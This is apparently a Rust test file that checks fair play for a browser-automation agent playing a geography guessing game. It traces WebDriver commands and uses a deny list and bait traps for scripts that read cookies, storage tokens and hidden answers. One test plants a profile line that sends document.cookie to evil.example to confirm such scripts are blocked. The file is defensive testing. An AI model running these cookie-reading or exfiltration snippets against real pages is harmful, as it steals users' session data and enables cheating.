//! Fair play, checked by tracing a real game: which commands the agent sends to the browser, what it touches on a page
//! full of bait, where it stops, and what it writes.
//!
//! The agent plays through two proxies. One is in front of the arena and adds `fair/bait.js` to its page; the other is
//! in front of chromedriver and records every command. Both append to one trace, which gives the order of events.

#[path = "fair/harness.rs"]
mod harness;

use std::collections::HashMap;
use std::process::Output;
use std::time::Duration;

use harness::{Event, Harness, profile};
use landfall_agent::testing::{BrowserOptions, browser};
use serde_json::{Value, json};
use thirtyfour::By;
use toml::Table;
use url::Url;

/// The CSS selectors of these locators in a section of the profile.
fn selectors(profile: &Table, section: &str, names: &[&str]) -> Vec<String> {
    fn texts(value: &toml::Value, into: &mut Vec<String>) {
        match value {
            toml::Value::String(selector) => into.push(selector.split(" @").next().unwrap().to_owned()),
            toml::Value::Array(list) => list.iter().for_each(|value| texts(value, into)),
            _ => {}
        }
    }
    let mut found = Vec::new();
    names.iter().for_each(|name| texts(&profile[section][name], &mut found));
    assert!(!found.is_empty());
    found
}

/// Ids of the elements in a WebDriver response.
fn elements(answer: &Value) -> Vec<String> {
    match answer {
        Value::Array(list) => list.iter().flat_map(elements).collect(),
        Value::Object(map) => {
            let ids = map.iter().filter(|(key, _)| key.starts_with("element-")).filter_map(|(_, id)| id.as_str());
            ids.map(str::to_owned).chain(map.values().flat_map(elements)).collect()
        }
        _ => Vec::new(),
    }
}

/// All WebDriver commands needed to play a game.
const ALLOWED_COMMANDS: &[&str] = &[
    "GET status",
    "POST session",
    "POST timeouts",
    "DELETE ",
    "GET window/rect",
    "POST window/rect",
    "POST url",
    "GET url",
    "POST execute/sync",
    "POST actions",
    "GET element/{}/screenshot",
    "GET element/{}/enabled",
    "POST element/{}/click",
    "POST element/{}/value",
];
/// Whether a command is one that is needed to play. Of Chromium's own protocol that is only the screenshot of what is
/// visible, which is the one of WebDriver in another compression.
fn is_allowed_command(kind: &str, body: &str) -> bool {
    let is_screenshot = || {
        let command: Value = serde_json::from_str(body).unwrap_or_default();
        let parameters = command["params"].as_object();
        command["cmd"] == "Page.captureScreenshot"
            && parameters
                .is_some_and(|all| all.keys().all(|key| ["format", "optimizeForSpeed", "clip"].contains(&&**key)))
    };
    ALLOWED_COMMANDS.contains(&kind) || kind == "POST goog/cdp/execute" && is_screenshot()
}

/// The commands that act on the page.
const INPUT: &[&str] = &["POST actions", "POST element/{}/click", "POST element/{}/value"];
/// Words forbidden in scripts and session capabilities: they read page state, data of the player or network traffic.
const FORBIDDEN_WORDS: &[&str] = &[
    "__NEXT_DATA__",
    "__react",
    "panoId",
    "window.google",
    "cookie",
    "localStorage",
    "sessionStorage",
    "indexedDB",
    "performance",
    "fetch",
    "XMLHttpRequest",
    "WebSocket",
    "innerHTML",
    "outerHTML",
    "loggingPrefs",
    "perfLogging",
    "webSocketUrl",
    "debuggerAddress",
    "user-data-dir",
];

/// The phase of a game, which determines the selectors that may be queried.
#[derive(Clone, Copy, Debug, PartialEq)]
enum Phase {
    /// No page is open: the browser only validates all selectors.
    NoPage,
    /// From the first query of the round's view to the click that submits the guess.
    BeforeGuess,
    AfterGuess,
    /// The button for the next round was clicked: the agent checks whether the game is over.
    Between,
}

/// Fair-play violations in a trace, and the number of submitted guesses.
fn violations(events: &[Event]) -> (Vec<String>, usize) {
    let profile = profile();
    let of_result = |names| selectors(&profile, "result", names);
    // `shown` is allowed: it does not reveal the result.
    let (answer, all) =
        (of_result(&["points", "truth", "guess"]), of_result(&["points", "truth", "guess", "total", "next"]));
    let (view, next) = (selectors(&profile, "look", &["view"]), of_result(&["next"]));
    let send = selectors(&profile, "map", &["guess"]);
    let contains_any = |body: &str, selectors: &[String]| selectors.iter().any(|css| body.contains(css.as_str()));
    let (mut phase, mut roles, mut found, mut guesses) = (Phase::NoPage, HashMap::new(), Vec::new(), 0);
    for event in events {
        let (kind, element, body, value) = match event {
            Event::Command { kind, element, body, answer } => (kind.as_str(), element, body.as_str(), answer),
            Event::Page(line) => {
                found.extend(["trap ", "stranger "].iter().any(|of| line.starts_with(of)).then(|| line.clone()));
                continue;
            }
        };
        if kind == "POST url" || phase == Phase::Between && contains_any(body, &view) {
            phase = Phase::BeforeGuess;
        }
        let forbidden = match phase {
            Phase::NoPage | Phase::AfterGuess => false,
            Phase::BeforeGuess => contains_any(body, &all),
            Phase::Between => contains_any(body, &answer),
        };
        if forbidden || !is_allowed_command(kind, body) || FORBIDDEN_WORDS.iter().any(|word| body.contains(word)) {
            found.push(format!("{phase:?}: {kind} {body}"));
        }
        let role = [("send", &send), ("next", &next)].into_iter().find(|(_, css)| contains_any(body, css));
        roles.extend(elements(value).into_iter().map(|id| (id, role.map(|(role, _)| role))));
        match (kind == "POST element/{}/click").then(|| roles.get(element).copied().flatten()).flatten() {
            Some("send") => (phase, guesses) = (Phase::AfterGuess, guesses + 1),
            Some(_) => phase = Phase::Between,
            None => {}
        }
    }
    (found, guesses)
}

#[tokio::test(flavor = "multi_thread")]
async fn agent_reads_only_the_picture_before_the_guess() {
    let harness = Harness::new(Value::Null).await;
    let output = harness.play("/").await;
    assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
    let game: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert!(game["rounds"][1]["truth"]["lat"].is_number() && game["score"] == game["page_score"], "{game}");
    assert!(!harness.reports("traps ").is_empty() && harness.reports("POST /api/").len() >= 3);

    let events = harness.events();
    assert_eq!(violations(&events), (Vec::new(), 2));
    // Each of these violations would be detected, even right before the first guess.
    let sent = events
        .iter()
        .position(|event| matches!(event, Event::Command { kind, .. } if kind == "GET element/{}/enabled"));
    let script = |body: &str| Event::Command {
        kind: "POST execute/sync".into(),
        element: String::new(),
        body: body.into(),
        answer: Value::Null,
    };
    let command = |kind: &str| Event::Command {
        kind: kind.into(),
        element: String::new(),
        body: String::new(),
        answer: Value::Null,
    };
    for violation in [
        script("seek('[data-qa=correct-location]')"),
        script("seek('[data-qa=final-score]')"),
        script("return document.cookie"),
        command("GET source"),
        command("GET cookie"),
        command("POST se/log"),
        command("POST goog/cdp/execute"),
        command("GET element/{}/attribute/data-lat"),
        Event::Page("trap cookie".into()),
    ] {
        let mut events = events.clone();
        events.insert(sent.unwrap(), violation.clone());
        assert_eq!(violations(&events).0.len(), 1, "{violation:?}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn probe_triggers_no_traps() {
    let harness = Harness::new(Value::Null).await;
    let (output, profile) = harness.probe().await;
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let found: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!((found["rounds"].as_array().unwrap().len(), &found["missing"]), (2, &json!([])), "{found}");
    assert!(profile.contains("perform-guess"), "{profile}");

    // A probe does not know the selectors of results in advance. Check its first round like that of a game.
    assert_eq!((harness.reports("trap "), harness.reports("stranger ")), (Vec::new(), Vec::new()));
    assert!(!harness.reports("traps ").is_empty() && harness.reports("POST /api/").len() >= 3);
    let of_result = selectors(&self::profile(), "result", &["points", "truth", "guess", "total"]);
    let mut guessed = false;
    for event in harness.events() {
        let (kind, body) = match event {
            Event::Command { kind, body, .. } => (kind, body),
            Event::Page(line) => {
                guessed |= line.starts_with("POST /api/v3/games/");
                continue;
            }
        };
        // Selectors may contain `cookie`, because cookie dialogs are closed.
        let parsed: Value = serde_json::from_str(&body).unwrap_or_default();
        let script = parsed["script"].as_str().unwrap_or(&body);
        let is_allowed = is_allowed_command(&kind, &body) && !FORBIDDEN_WORDS.iter().any(|word| script.contains(word));
        let unescaped = body.replace(r#"\""#, "");
        let is_early = !guessed && of_result.iter().any(|css| unescaped.contains(&css.replace('"', "")));
        assert!(is_allowed && !is_early, "{kind} {body}");
    }
    assert!(guessed);
}

/// A script that triggers each trap of `bait.js`. `bait` is the hidden element, which contains a script, a paragraph, a
/// link, points, an input and a frame.
const TRAP_TRIGGERS: &[(&str, &str)] = &[
    ("__NEXT_DATA__", "window.__NEXT_DATA__"),
    ("google", "window.google"),
    ("__pano", "window['__pano']"),
    ("__APOLLO_STATE__", "JSON.stringify(window.__APOLLO_STATE__)"),
    ("querySelector", "document.querySelector('script#__NEXT_DATA__')"),
    ("querySelectorAll", "document.body.querySelectorAll('[data-lat]')"),
    ("getElementsByTagName", "document.getElementsByTagName('script')"),
    ("getElementsByClassName", "document.getElementsByClassName('correct')"),
    ("getElementById", "document.getElementById('__NEXT_DATA__')"),
    ("scripts", "document.scripts[0]"),
    ("cookie", "document.cookie"),
    ("textContent", "document.body.textContent"),
    ("innerHTML", "bait.firstChild.innerHTML"),
    ("outerHTML", "document.documentElement.outerHTML"),
    ("getHTML", "document.body.getHTML()"),
    ("innerText", "bait.innerText"),
    ("outerText", "bait.children[1].outerText"),
    ("nodeValue", "bait.children[1].firstChild.nodeValue"),
    ("data", "bait.children[1].firstChild.data"),
    ("text", "bait.firstChild.text"),
    ("attributes", "[...bait.children[1].attributes]"),
    ("dataset", "bait.children[2].dataset.lat"),
    ("value", "bait.children[4].value"),
    ("src", "bait.children[5].src"),
    ("contentWindow", "bait.children[5].contentWindow"),
    ("getAttribute", "bait.children[2].getAttribute('data-lat')"),
    ("getAttributeNode", "bait.children[3].getAttributeNode('data-points')"),
    ("serializeToString", "new XMLSerializer().serializeToString(document)"),
    ("localStorage", "localStorage.token"),
    ("sessionStorage", "sessionStorage.getItem('token')"),
    ("indexedDB", "indexedDB"),
    ("caches", "caches.keys()"),
    ("cookieStore", "cookieStore.getAll()"),
    ("getEntries", "performance.getEntries()"),
    ("getEntriesByType", "performance.getEntriesByType('resource')"),
    ("getEntriesByName", "performance.getEntriesByName('/')"),
    ("PerformanceObserver", "new PerformanceObserver(() => {})"),
    ("fetch", "fetch('/api/v3/games/x')"),
    ("XMLHttpRequest", "new XMLHttpRequest()"),
    ("WebSocket", "new WebSocket('ws://127.0.0.1:9')"),
    ("EventSource", "new EventSource('/nothing')"),
    ("sendBeacon", "navigator.sendBeacon('/nothing')"),
];

#[tokio::test(flavor = "multi_thread")]
async fn traps_detect_scripts_but_ignore_the_page() {
    let harness = Harness::new(Value::Null).await;
    let options =
        BrowserOptions { webdriver: Some(Url::parse(&harness.webdriver).unwrap()), ..BrowserOptions::default() };
    let driver = browser::open(&options).await.unwrap();
    driver.goto(&harness.page).await.unwrap();
    // Start with a real click, so that the calls of the page have its own scripts on the stack.
    let has_started = "return document.querySelector('[data-qa=guess-map-canvas] img') !== null";
    while !driver.execute(has_started, vec![]).await.unwrap().convert::<bool>().unwrap() {
        if let Ok(start) = driver.find(By::Css("[data-qa=play-button], [data-qa=start-game-button]")).await {
            _ = start.click().await; // the button may have disappeared
        }
        tokio::time::sleep(Duration::from_millis(300)).await;
    }
    // The page has fetched and drawn a round without triggering traps.
    let traps = harness.reports("traps ").pop().unwrap();
    assert_eq!(harness.reports("trap "), Vec::<String>::new());
    let mut left: Vec<&str> = traps.split(' ').skip(1).collect();
    for (name, script) in TRAP_TRIGGERS {
        let before = harness.reports("trap ").len();
        let script = format!("const bait = [...document.body.children].find(e => e.hidden); void ({script})");
        driver.execute(&script, vec![]).await.unwrap();
        let reports = harness.reports("trap ").split_off(before);
        assert!(reports.iter().any(|report| report.starts_with(&format!("trap {name} "))), "{name}: {reports:?}");
        left.retain(|trap| trap != name);
    }
    assert_eq!(left, Vec::<&str>::new(), "untested traps");
    browser::shutdown(driver, &BrowserOptions::default()).await;
}

/// JavaScript of a profile from outside runs only if the user asks for it; nothing is opened before.
#[test]
fn scripts_of_profiles_need_a_flag() {
    let dir = tempfile::tempdir().unwrap();
    let arena = include_str!("../../profiles/arena.toml");
    let key = "key = { left = \"a\", right = \"d\", degrees = 15.0 }";
    let scripted = arena.replace(key, "call = \"fetch('https://evil.example/' + document.cookie)\"");
    assert_ne!(scripted, arena);
    let file = dir.path().join("mine.toml");
    std::fs::write(&file, scripted).unwrap();
    let run = |args: &[&str]| {
        let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_landfall"));
        let output = command.args(args).arg("--site").arg(&file).env("PATH", "").output().unwrap();
        (output.status.code(), stderr(&output))
    };
    let pages = [vec!["http://127.0.0.1:9/"], vec!["--base-url", "http://127.0.0.1:9/"], vec![]];
    for command in ["play", "doctor"] {
        for page in &pages {
            let (code, error) = run(&[&[command], &page[..]].concat());
            assert_eq!(code, Some(2), "{command} {page:?}: {error}");
            assert!(error.contains("mine.toml: look.call") && error.contains("--allow-profile-scripts"), "{error}");
        }
        // With the flag it goes on, to find no browser in the empty PATH.
        let (code, error) = run(&[command, "--allow-profile-scripts", "http://127.0.0.1:9/"]);
        assert_eq!(code, Some(3), "{command}: {error}");
        assert!(!error.contains("look.call"), "{error}");
    }
}

fn stderr(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

#[tokio::test(flavor = "multi_thread")]
async fn agent_refuses_multiplayer_pages_and_stops_when_redirected_to_one() {
    let harness = Harness::new(Value::Null).await;
    for path in ["/duels/x", "/ranked", "/multiplayer", "/tournaments/x", "/daily-challenges", "/live-challenge/x"] {
        let output = harness.play(path).await;
        assert!(
            output.status.code() == Some(2) && stderr(&output).contains("affect other people"),
            "{}",
            stderr(&output)
        );
    }
    assert!(harness.events().is_empty(), "{:?}", harness.events());

    for (by, on, to) in [
        ("assign", "load", "/duels/x"),
        ("pushState", "load", "/daily-challenges"),
        ("pushState", "keydown", "/battle-royale/x"),
        ("pushState", "wheel", "/tournaments/x"),
    ] {
        let harness = Harness::new(json!({ "by": by, "on": on, "to": to })).await;
        let output = harness.play("/").await;
        let (events, stderr) = (harness.events(), stderr(&output));
        assert_eq!(output.status.code(), Some(2), "{by} on {on}: {stderr}");
        assert!(stderr.contains(to) && stderr.contains("affect other people"), "{stderr}");
        let left = events.iter().position(|event| matches!(event, Event::Page(line) if line == "forward"));
        let after = &events[left.expect("the page has navigated")..];
        let acts = |event: &&Event| match event {
            Event::Command { kind, .. } => INPUT.contains(&kind.as_str()),
            Event::Page(line) => line.starts_with("POST "), // a submitted guess
        };
        assert_eq!(after.iter().filter(acts).count(), 0, "{by} on {on}: {after:?}");
        assert_eq!(violations(&events), (Vec::new(), 0));
        let acted = events.iter().any(|event| acts(&event));
        assert_eq!(acted, on != "load", "{by} on {on}");
    }
}
